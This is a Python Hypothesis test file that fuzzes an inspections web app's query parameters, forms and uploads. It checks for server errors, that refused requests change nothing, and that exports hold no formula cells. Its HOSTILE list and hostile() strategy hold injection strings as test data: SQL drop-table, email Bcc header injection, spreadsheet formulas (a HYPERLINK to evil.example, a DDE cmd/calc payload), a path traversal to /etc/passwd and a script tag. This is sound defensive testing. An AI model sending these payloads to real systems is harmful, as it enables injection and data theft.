"""Generated input on every route, as every persona: never a 5xx, and a refusal changes nothing.

Hypothesis fills the query parameters each GET view reads (`QUERY`, checked against the code
by `test_every_query_parameter_is_listed`) and every form a POST view builds (its fields are
found by posting it once and recording the forms the view made, so a new field is covered
without a list to keep) with ids, dates at the ends of the calendar, months and weeks,
huge and odd numbers, unicode, control characters and formulae. Each answer must be below
500; a refused answer (an error status, or a page or redirect showing an error) must leave
the audit log and the number of rows of every table as they were. An accepted POST is
followed by the pages its change feeds (`FOLLOW_UPS`), so a value stored today that breaks
a page tomorrow is caught too.

The `world` (tests/kernel/conftest.py) is built once per test; each example starts from it
again (SQLite's backup API restores the file), so examples are independent and replayable.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from wtforms.validators import Length, NumberRange, Optional, Regexp

from inspections.forms import (
    FIRST_DAY,
    LAST_DAY,
    MAX_ID,
    BaseForm,
    parse_day,
    parse_id,
    parse_month,
)
from inspections.outbox.models import NotificationStatus
from inspections.spreadsheets import CSV_MIMETYPE, XLSX_MIMETYPE
from inspections.units.models import UnitKind
from inspections.units.transfer import COLUMNS
from tests.conftest import csrf_token
from tests.kernel.test_bad_input import AUDITED_REFUSALS, POST_ENDPOINTS, REFUSAL
from tests.kernel.test_policy_matrix import MATRIX, PERSONAS

SETTINGS = settings(
    deadline=None,
    derandomize=True,  # CI sees the same examples as the last run: a new failure is a new defect
    database=None,  # each example restores the world: nothing to replay from disk
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# --- values ---------------------------------------------------------------------------

HUGE = "99999999999999999999"
HOSTILE = [
    HUGE,
    "-" + HUGE,
    "2147483648",
    "9223372036854775808",
    "²",
    "1e999",
    "0x10",
    "",
    " ",
    "\r\nBcc: x@evil.example",
    "\x00",
    '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE units; --",
    "%_!\\",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "Hà Nội \u202e\u200b",
]
EXTREME_DAYS = [date.min, date.max, date(1, 1, 2), date(9999, 12, 30), date(2019, 2, 28), date(2020, 2, 29)]

EDGES = [HUGE, "2147483647", "2147483648", "-2147483649", "9223372036854775808", "0", "-1", "²", "1.5"]

texts = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
garbage = st.one_of(st.sampled_from(HOSTILE), texts)
edges = st.sampled_from(EDGES)
integers = st.one_of(
    edges,
    st.integers(-3, 120).map(str),
    st.integers(1990, 2110).map(str),
    st.integers(-(2**70), 2**70).map(str),
    garbage,
)
decimals = st.one_of(
    st.sampled_from(["sNaN", "NaN", "-NaN", "Infinity", "-Infinity", "inf", "1e400", "-0", "0.005"]),
    st.decimals(allow_nan=True, allow_infinity=True, places=3).map(str),
    integers,
)
days = st.one_of(
    st.sampled_from(EXTREME_DAYS).map(date.isoformat),
    st.dates().map(date.isoformat),
    st.dates(date(2018, 1, 1), date(2031, 12, 31)).map(date.isoformat),
    st.sampled_from(["31/02/2019", "2019-02-30", "2019-13-01", "0000-00-00", "10000-01-01"]),
    garbage,
)
months = st.one_of(
    st.sampled_from(["9999-12", "0001-01", "0000-01", "10000-01", "2019-00", "2019-13", "2019--1"]),
    st.builds("{:04d}-{:02d}".format, st.integers(0, 10_000), st.integers(0, 13)),
    st.builds("{}-{}".format, st.integers(-(2**70), 2**70), st.integers(-(2**70), 2**70)),
    garbage,
)
booleans = st.one_of(st.sampled_from(["y", "on", "1", "", "false"]), garbage)


def ids(world: dict[str, Any]) -> st.SearchStrategy[str]:
    known = sorted({str(v) for k, v in world.items() if k.endswith("_id") and isinstance(v, int)})
    return st.one_of(st.sampled_from(known), edges, st.integers(-2, 2**70).map(str), garbage)


# What every bounded list reads (inspections/listing.py): its sort, direction and cursor.
LISTING = {"sort": "sort", "order": "order", "after": "cursor"}
cursors = st.one_of(
    st.sampled_from(["WyJ4IiwxXQ", "WzEsMV0", "W251bGwsMV0", "WyIyMDE5LTAxLTAxIiwxXQ", "e30", "W10"]),
    st.binary(max_size=60).map(lambda b: base64.urlsafe_b64encode(b).decode().rstrip("=")),
    garbage,
)
# The query parameters each GET view reads (`request.args` in its code), by kind.
QUERY: dict[str, dict[str, str]] = {
    "units.index": {"q": "text", "kind": "unit_kind", "district": "id"} | LISTING,
    "visits.index": {
        "plan": "id",
        "team": "id",
        "kind": "inspection_kind",
        "status": "visit_status",
        "since": "day",
        "until": "day",
        "q": "text",
    }
    | LISTING,
    "reports.findings_page": {"plan": "id", "from": "int", "to": "int"},
    "reports.findings_export": {"plan": "id", "from": "int", "to": "int", "lang": "language"},
    "units.export": {"q": "text", "kind": "unit_kind", "district": "id", "lang": "language"},
    "plans.export": {"lang": "language"},
    "plans.export_findings": {"lang": "language"},
    "audit.index": {
        "who": "text",
        "action": "text",
        "object": "text",
        "object_id": "id",
        "since": "day",
        "until": "day",
    }
    | LISTING,
    "outbox.index": {"status": "status", "kind": "text", "recipient": "text"} | LISTING,
    "scheduling.schedule": {"team": "id", "view": "view", "month": "month", "week": "day"} | LISTING,
    "scheduling.my_calendar": {"month": "month", "team": "id"} | LISTING,
    "scheduling.schedule_events": {"team": "id", "start": "day", "end": "day"},
    "scheduling.my_calendar_events": {"team": "id", "start": "day", "end": "day"},
    "remediation.index": {
        "plan": "id",
        "status": "record_status",
        "overdue": "on_one",
        "q": "text",
        "district": "id",
    }
    | LISTING,
    "remediation.extensions": {"plan": "id", "status": "record_status", "q": "text"} | LISTING,
    "cases.index": {"plan": "id", "status": "record_status", "team": "id", "q": "text"} | LISTING,
    "plans.index": {"year": "int", "status": "record_status"} | LISTING,
    "plans.detail": {"kind": "team_kind", "q": "text"} | LISTING,
    "teams.detail": {"status": "record_status", "q": "text"} | LISTING,
    "teams.members": LISTING,
    "assignments.bulk": {
        "q": "text",
        "kind": "unit_kind",
        "district": "id",
        "selected": "ids",
        "team_id": "id",
    }
    | LISTING,
    "units.suggest": {"q": "text", "kind": "unit_kind", "active": "on_one"},
    "teams.suggest": {"q": "text"},
    "teams.people_suggest": {"q": "text"},
    "auth.login": {"next": "text"},
}
# Fields some POST views read from `request.form` beside their form classes.
RAW_FIELDS: dict[str, dict[str, str]] = {
    "assignments.assign_bulk": {
        "team_id": "id",
        "unit_ids": "ids",
        "override_reason": "text",
        # The bulk page's search and navigation, carried to its next address.
        "action": "text",
        "unselect": "id",
        "page_ids": "ids",
        "q": "text",
        "kind": "unit_kind",
        "district": "id",
        "sort": "sort",
        "order": "order",
        "after": "cursor",
        "next_after": "cursor",
    },
    "assignments.draw": {"action": "draw_action"},
    "outbox.preferences": {"action": "on_off"},
    "remediation.decide": {"decision": "decision"},
    "auth.login": {"username": "text"},
    # A save sent later by the offline queue, and each photo's time (ms since 1970).
    "findings.save_visit_finding": {"queued": "on_one", "taken_ms": "text"},
    "inbox.digest": {"wanted": "on_one"},
    # The re-proposal's moves, "visit id|yyyy-mm-dd|slot" each.
    "scheduling.apply_moves": {"move": "text"},
}
# Read from `request.form` and covered otherwise: a form field of the same name, or the
# redirect target every view's `web.redirect_back` takes (tests/kernel: local paths only).
RAW_ELSEWHERE = {"email": "FreshLinkForm.email", "next": "web.redirect_back"}
CHOICES = {
    "unit_kind": [k.value for k in UnitKind] + ["no_such_kind"],
    "status": [s.value for s in NotificationStatus] + ["no_such_status"],
    "view": ["week", "month", "year"],
    "language": ["vi", "en", "fr"],
    "draw_action": ["draw", "preview"],
    "on_off": ["on", "off"],
    "decision": ["grant", "refuse"],
    "sort": ["name", "code", "kind", "status", "time", "due", "unit", "plan", "day", "no_such_column"]
    + ["received", "reference", "title", "source", "team", "year", "role", "asked"],
    "order": ["asc", "desc", "sideways"],
    "inspection_kind": ["joint", "surprise", "no_such_kind"],
    # The statuses of actions, requests for more time, cases, plans and inspections.
    "record_status": ["open", "reported", "pending", "granted", "intake", "closed", "draft", "assigned", "x"],
    "on_one": ["1", "0", "on"],
    "team_kind": ["joint", "public_service", "surprise"],
    "visit_status": ["proposed", "approved", "in_progress", "done", "cancelled", "nope"],
}


def value_of(kind: str, world: dict[str, Any]) -> st.SearchStrategy[Any]:
    if kind == "id":
        return ids(world)
    if kind == "ids":
        return st.lists(ids(world), max_size=3)
    if kind == "int":
        return integers
    if kind == "month":
        return months
    if kind == "day":
        return days
    if kind == "cursor":
        return cursors
    if kind in CHOICES:
        return st.one_of(st.sampled_from(CHOICES[kind]), garbage)
    return st.one_of(garbage, ids(world), st.sampled_from(sorted(world["users"].values())))


# --- forms, found by posting them ------------------------------------------------------


@contextmanager
def recording_forms() -> Iterator[list[BaseForm]]:
    """Every form a view builds from the request's data while the block runs."""
    made: list[BaseForm] = []
    original = BaseForm.__init__

    def record(self: BaseForm, *args: Any, **kwargs: Any) -> None:
        original(self, *args, **kwargs)
        if "formdata" not in kwargs and not args:
            made.append(self)

    BaseForm.__init__ = record  # type: ignore[method-assign]
    try:
        yield made
    finally:
        del BaseForm.__init__


def _choices(field: Any) -> list[str]:
    try:
        return [str(choice[0]) for choice in field.iter_choices()]
    except (TypeError, AttributeError):
        return []


class Upload(io.BytesIO):
    """A file to post, shown by name and first bytes in hypothesis' reports."""

    def __init__(self, data: bytes, name: str) -> None:
        super().__init__(data)
        self.name = name

    def __repr__(self) -> str:
        return f"Upload({self.name!r}, {self.getvalue()[:60]!r}..., {len(self.getvalue())} bytes)"


def _upload(data: bytes, name: str) -> tuple[Upload, str]:
    return Upload(data, name), name


def _csv_file(rows: list[list[str]]) -> bytes:
    lines = [",".join(COLUMNS)] + [",".join('"' + c.replace('"', '""') + '"' for c in row) for row in rows]
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def _workbook() -> tuple[bytes, str]:
    """A good import workbook, and its sheet's XML (which the strategies below break)."""
    book = Workbook()
    book.active.append(list(COLUMNS))
    book.active.append(["q-x", "Quận X", "", "district", "", "", "", "1", "", "", ""])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        return out.getvalue(), archive.read("xl/worksheets/sheet1.xml").decode()


WORKBOOK, SHEET_XML = _workbook()


def _with_sheet(xml: str) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(WORKBOOK)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            target.writestr(
                item.filename, xml.encode() if item.filename == "xl/worksheets/sheet1.xml" else content
            )
    return out.getvalue()


cells = st.one_of(garbage, st.sampled_from(["district", "vi", "1"]))
FILES = st.one_of(
    st.builds(
        lambda rows: _upload(_csv_file(rows), "units.csv"),
        st.lists(st.lists(cells, min_size=11, max_size=11), min_size=1, max_size=3),
    ),
    # A workbook whose sheet is cut short, or has a tag, an attribute or a cell reference changed.
    st.builds(
        lambda cut, junk: _upload(_with_sheet(SHEET_XML[:cut] + junk + SHEET_XML[cut:]), "units.xlsx"),
        st.integers(0, len(SHEET_XML)),
        st.sampled_from(["", "<", "</row>", '"', 'r="ZZZ0"', "<c r='A1' t='s'><v>99</v></c>", "&bad;"]),
    ),
    st.builds(
        lambda cut: _upload(_with_sheet(SHEET_XML[:cut]), "units.xlsx"), st.integers(0, len(SHEET_XML))
    ),
    st.builds(
        _upload,
        st.binary(max_size=64),
        st.sampled_from(["anh.jpg", "don.pdf", "units.xlsx", "units.csv", "x.exe", ""]),
    ),
)


def _bounds(field: Any) -> tuple[Any, Any]:
    low = high = None
    for validator in field.validators:
        if isinstance(validator, NumberRange):
            low, high = validator.min, validator.max
    return low, high


def _max_length(field: Any) -> int:
    lengths = [v.max for v in field.validators if isinstance(v, Length) and v.max > 0]
    return min([40, *lengths])


def plausible(field: Any, world: dict[str, Any]) -> st.SearchStrategy[Any]:
    """A value the field's own validators accept (or nearly), to reach the code behind it."""
    kind = field.type
    current = [] if field.object_data in (None, "") else [str(field.object_data)]
    options = _choices(field) + current
    low, high = _bounds(field)
    if kind in ("FileField", "MultipleFileField"):
        return FILES
    if options:
        base: st.SearchStrategy[Any] = st.sampled_from(options)
    elif kind in ("IntegerField", "IntegerRangeField"):
        base = st.integers(-10 if low is None else low, 10**6 if high is None else high).map(str)
    elif kind in ("DecimalField", "FloatField", "DecimalRangeField"):
        base = st.decimals(low, high, places=2, allow_nan=False, allow_infinity=False).map(str)
    elif kind in ("DateField", "DateTimeField", "DateTimeLocalField"):
        base = st.one_of(st.sampled_from(EXTREME_DAYS), st.dates(date(2018, 1, 1), date(2031, 12, 31))).map(
            date.isoformat
        )
    elif kind == "BooleanField":
        base = st.sampled_from(["y", ""])
    elif field.name.endswith("_id") or field.name in ("version", "finding_id", "criterion"):
        base = st.sampled_from(sorted({str(v) for k, v in world.items() if k.endswith("_id")}))
    elif "email" in field.name:
        base = st.emails()
    elif any(isinstance(v, Regexp) for v in field.validators):
        pattern = next(v for v in field.validators if isinstance(v, Regexp)).regex
        base = st.from_regex(pattern, fullmatch=True).filter(lambda text: len(text) <= 40)
    else:
        base = st.text(st.characters(categories=("L", "N", "Zs")), min_size=1, max_size=_max_length(field))
    if any(isinstance(v, Optional) for v in field.validators):
        base = st.one_of(st.just(""), base)  # an optional field left empty is valid
    return st.one_of(st.sampled_from(current), base) if current else base


def hostile(field: Any, world: dict[str, Any]) -> st.SearchStrategy[Any]:
    kind = field.type
    if kind in ("FileField", "MultipleFileField"):
        return FILES
    if kind in ("IntegerField", "IntegerRangeField"):
        return integers
    if kind in ("DecimalField", "FloatField", "DecimalRangeField"):
        return decimals
    if kind in ("DateField", "DateTimeField", "DateTimeLocalField"):
        return days
    if kind == "MonthField":
        return months
    if kind == "SelectMultipleField":
        return st.lists(garbage, max_size=3)
    if field.name.endswith("_id"):
        return ids(world)
    # A name, a note: text that is nearly right, with a control character or a formula in it.
    # A formula in front (a spreadsheet would run it), a control character inside.
    nearly = st.builds(
        "{}{}{}{}".format,
        st.sampled_from(["", "=", "+", "-", "@", '=HYPERLINK("http://evil.example/?"&A1,"bấm")&']),
        plausible(field, world),
        st.sampled_from(["\r\n", "\x00", "\x1b[31m", "\u2028", "\t", ""]),
        st.sampled_from(["", "Bcc: x@evil.example", "=1+1"]),
    )
    return st.one_of(nearly, value_of("text", world))


@st.composite
def form_data(draw: st.DrawFn, fields: dict[str, Any], raw: dict[str, str], world: dict[str, Any]) -> dict:
    """A form that is valid but for a few hostile fields (or, now and then, all of them)."""
    names = sorted(fields)
    everything = draw(st.integers(0, 5)) == 0
    bad = (
        set(names)
        if everything
        else draw(st.sets(st.sampled_from(names), max_size=2) if names else st.just(set()))
    )
    data: dict[str, Any] = {}
    for name in names:
        if draw(st.integers(0, 29)) == 0:  # now and then a field is left out
            continue
        strategy = hostile if name in bad else plausible
        data[name] = draw(strategy(fields[name], world), label=name)
    for name, kind in raw.items():
        data[name] = draw(value_of(kind, world), label=name)
    return data


# --- the world, restored before every example ------------------------------------------


class Restorer:
    """A copy of the database taken once, put back before each example.

    SQLite only (its backup API copies the file under a lock); on PostgreSQL the examples
    run one after the other on the same world, each request still checked on its own.
    """

    def __init__(self, db: Any) -> None:
        self.db = db
        self.copy: sqlite3.Connection | None = None
        if db.engine.dialect.name == "sqlite":
            self.copy = sqlite3.connect(":memory:")
            with self._raw() as live:
                live.backup(self.copy)

    @contextmanager
    def _raw(self) -> Iterator[sqlite3.Connection]:
        self.db.session.rollback()
        with self.db.engine.connect() as connection:
            yield connection.connection.dbapi_connection

    def restore(self) -> None:
        if self.copy is None:
            return
        with self._raw() as live:
            self.copy.backup(live)


def state(db: Any) -> tuple[int, dict[str, int]]:
    """The audit count (without the refusals audited by design) and every table's row count."""
    db.session.rollback()
    tables = [t.name for t in db.metadata.sorted_tables if t.name != "audit_events"]
    counts = " UNION ALL ".join(f"SELECT '{n}', count(*) FROM \"{n}\"" for n in tables)  # noqa: S608
    audit = sa.text("SELECT count(*) FROM audit_events WHERE action NOT IN :refusals").bindparams(
        sa.bindparam("refusals", expanding=True)
    )
    return (
        db.session.scalar(audit, {"refusals": list(AUDITED_REFUSALS)}),
        dict(db.session.execute(sa.text(counts)).all()),
    )


class Session:
    """One persona's client in the world: requests, checks, and what they found."""

    def __init__(self, persona: str, world: dict[str, Any], db: Any, client: Any, login: Any) -> None:
        self.persona, self.world, self.db, self.client = persona, world, db, client
        if persona != "anonymous":
            assert login(world["users"][persona]).status_code == 302
        self.token = csrf_token(client)
        self.restorer = Restorer(db)
        self._fields: dict[str, dict[str, Any]] = {}

    def fields(self, endpoint: str) -> dict[str, Any]:
        """The fields of the forms the view builds on a POST, found by posting it empty."""
        if endpoint not in self._fields:
            with recording_forms() as forms:
                self.client.post(self.path(endpoint), data={"csrf_token": self.token})
            self._fields[endpoint] = {
                f.name: f for form in forms for f in form if f.type not in ("CSRFTokenField", "SubmitField")
            }
            self.restorer.restore()
        return self._fields[endpoint]

    def path(self, endpoint: str) -> str:
        return MATRIX[endpoint][1].format(**self.world)

    def request(self, method: str, url: str, data: dict[str, Any]) -> Any:
        """Send, and check: below 500, and a refusal changed nothing. Returns the answer."""
        with self.client.session_transaction() as cookie:  # messages left by an earlier request
            cookie.pop("_flashes", None)
        before = state(self.db)
        where = f"{self.persona} {method} {url} {data!r:.600}"
        note(where)
        if method == "GET":
            response = self.client.get(url, query_string=data)
        else:
            has_file = any(isinstance(v, tuple) for v in data.values())
            response = self.client.post(
                url,
                data={**data, "csrf_token": self.token},
                content_type="multipart/form-data" if has_file else "application/x-www-form-urlencoded",
            )
        assert response.status_code < 500, where
        # Taken before following the redirect: opening a signed link is audited by design.
        after = state(self.db)
        if response.status_code in (302, 303):
            # A refusal is flashed as an error; a bulk change that did some of its rows and
            # names the others it refused (assignments.assign_bulk) flashes a success too.
            with self.client.session_transaction() as cookie:
                categories = {category for category, _ in cookie.get("_flashes", [])}
                refused = "error" in categories and "success" not in categories
            if response.headers["Location"].startswith("/"):
                page = self.client.get(response.headers["Location"])
                assert page.status_code < 500, f"{where} -> {response.headers['Location']}"
        else:
            body = response.get_data(as_text=True) if response.mimetype.startswith("text/") else ""
            refused = response.status_code >= 400 or REFUSAL.search(body) is not None
        if refused:
            changed = {t: (n, after[1].get(t)) for t, n in before[1].items() if after[1].get(t) != n}
            if after[0] != before[0]:
                changed["audit events"] = (before[0], after[0])
            assert not changed, f"{where}: a refused request changed {changed}"
        _check_export(response, where)
        response.refused = refused
        return response


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _check_export(response: Any, where: str) -> None:
    """An export holds no formula: no formula cell in a workbook, no CSV cell that starts
    like one (inspections/spreadsheets.py)."""
    if response.mimetype == XLSX_MIMETYPE:
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets), where
    elif response.mimetype == CSV_MIMETYPE:
        rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)], where


def _reachable(endpoint: str, persona: str) -> bool:
    """Whether the persona gets past authorisation (the matrix's answer to an empty request)."""
    answer = MATRIX[endpoint][2][persona]
    if answer in (403, 404, 308):
        return False
    return not (
        persona == "anonymous" and answer == 302 and POST_ENDPOINTS.get(endpoint, ("",))[0] != persona
    )


# --- GET: the parameters each view reads ------------------------------------------------

GET_CASES = [
    pytest.param(endpoint, persona, id=f"{endpoint}-{persona}")
    for endpoint in sorted(QUERY)
    for persona in PERSONAS
    if MATRIX[endpoint][0] == "GET" and MATRIX[endpoint][2][persona] == 200
]


@pytest.mark.parametrize(("endpoint", "persona"), GET_CASES)
def test_query_parameters_never_fail(endpoint, persona, world, db, client, login):
    session = Session(persona, world, db, client, login)
    paths = [session.path(endpoint)]
    if endpoint == "units.export":
        paths.append(paths[0].replace(".csv", ".xlsx"))
    params = st.fixed_dictionaries(
        {}, optional={name: value_of(kind, world) for name, kind in QUERY[endpoint].items()}
    )

    @settings(SETTINGS, max_examples=30)
    @given(params=params, path=st.sampled_from(paths))
    def check(params: dict[str, Any], path: str) -> None:
        session.request("GET", path, params)

    check()


# Every other GET page, with parameters it does not read (they must be ignored).
SWEEP_CASES = [pytest.param(p, id=p) for p in PERSONAS]


@pytest.mark.parametrize("persona", SWEEP_CASES)
def test_other_pages_ignore_odd_parameters(persona, world, db, client, login):
    session = Session(persona, world, db, client, login)
    pages = [
        session.path(e)
        for e, (method, _, expected) in sorted(MATRIX.items())
        if method == "GET" and e not in QUERY and expected[persona] == 200
    ]
    names = sorted({n for params in QUERY.values() for n in params} | {"id", "page", "lang", "format"})
    params = st.dictionaries(st.sampled_from(names) | texts, value_of("text", world), max_size=4)

    @settings(SETTINGS, max_examples=4)
    @given(params=params)
    def check(params: dict[str, Any]) -> None:
        for page in pages:
            session.request("GET", page, params)

    check()


# --- POST: every form ---------------------------------------------------------------------

# After an accepted POST, the pages its change feeds ("{location}": where it redirected).
FOLLOW_UPS: dict[str, list[tuple[str, str, str]]] = {
    "plans.new": [
        ("GET", "{location}/schedule", "scheduling.schedule"),
        ("POST", "{location}/copy", "plans.copy"),
        ("GET", "{location}/export.xlsx", "plans.export"),
    ],
    "plans.edit": [
        ("GET", "{location}/schedule", "scheduling.schedule"),
        ("POST", "{location}/copy", "plans.copy"),
    ],
    "units.new": [("GET", "/units/export.xlsx", ""), ("GET", "/units/export.csv", "")],
    "units.edit": [("GET", "/units/export.xlsx", ""), ("GET", "/units/export.csv", "")],
    "units.import_file": [("GET", "/units/export.xlsx", ""), ("GET", "/units/export.csv", "")],
}
IMPORT_TOKEN = re.compile(r'name="token" type="hidden" value="([0-9a-f]{32}\.(?:csv|xlsx))"')

POST_CASES = [
    pytest.param(endpoint, persona, id=f"{endpoint}-{persona}")
    for endpoint in sorted(POST_ENDPOINTS)
    for persona in PERSONAS
    # Logging out ends the session the other examples need; tests/auth covers it.
    if endpoint != "auth.logout" and _reachable(endpoint, persona)
]


@pytest.mark.parametrize(("endpoint", "persona"), POST_CASES)
def test_forms_never_fail_and_refusals_change_nothing(endpoint, persona, world, db, client, login):
    session = Session(persona, world, db, client, login)
    fields = session.fields(endpoint)
    data = form_data(fields, RAW_FIELDS.get(endpoint, {}), world)
    path = session.path(endpoint)

    @settings(SETTINGS, max_examples=10 + 6 * len(fields))
    @given(data=data, more=st.data())
    def check(data: dict[str, Any], more: st.DataObject) -> None:
        session.restorer.restore()
        response = session.request("POST", path, data)
        if response.refused:
            return
        body = response.get_data(as_text=True) if response.mimetype == "text/html" else ""
        if (token := IMPORT_TOKEN.search(body)) is not None:  # a preview without errors: import it
            response = session.request("POST", "/units/import/commit", {"token": token[1]})
        if response.refused or response.status_code not in (302, 303):
            return
        location = response.headers["Location"].split("?")[0].rstrip("/")
        for method, template, follow in FOLLOW_UPS.get(endpoint, []):
            url = template.format(location=location)
            extra = {}
            if method == "POST" and follow:
                extra = more.draw(form_data(session.fields(follow), {}, world), label=follow)
            session.request(method, url, extra)

    check()


def test_every_query_parameter_is_listed() -> None:
    """The parameters `QUERY` lists are those the views read (a new one fails this test)."""
    read = set()
    for path in (Path(__file__).parents[2] / "inspections").rglob("*.py"):
        # Read directly, or through scheduling's `_asked(name, parse)`.
        read |= set(re.findall(r"(?:request\.args\.get|_asked)\(\"(\w+)\"", path.read_text()))
    read |= {"status", "kind", "recipient"}  # OutboxFilterForm(request.args)
    read |= set(LISTING)  # listing.read_order
    listed = {name for params in QUERY.values() for name in params}
    assert read == listed


def test_every_raw_form_field_is_listed() -> None:
    """The fields views read from `request.form` themselves are those `RAW_FIELDS` fills."""
    read = set()
    for path in (Path(__file__).parents[2] / "inspections").rglob("*.py"):
        read |= set(re.findall(r"request\.form\.(?:get|getlist)\(\"(\w+)\"", path.read_text()))
    listed = {name for fields in RAW_FIELDS.values() for name in fields} | set(RAW_ELSEWHERE)
    assert read == listed


@settings(max_examples=300)
@given(value=st.one_of(texts, months, days, integers))
def test_the_kernel_parsers_answer_none_or_a_value_in_range(value):
    """What a client sends is parsed into an id, a month or a day that the database
    and the calendar can take, or into nothing: never an exception."""
    assert parse_id(value) is None or 0 < parse_id(value) <= MAX_ID
    for parsed in (parse_month(value), parse_day(value)):
        assert parsed is None or FIRST_DAY <= parsed <= LAST_DAY
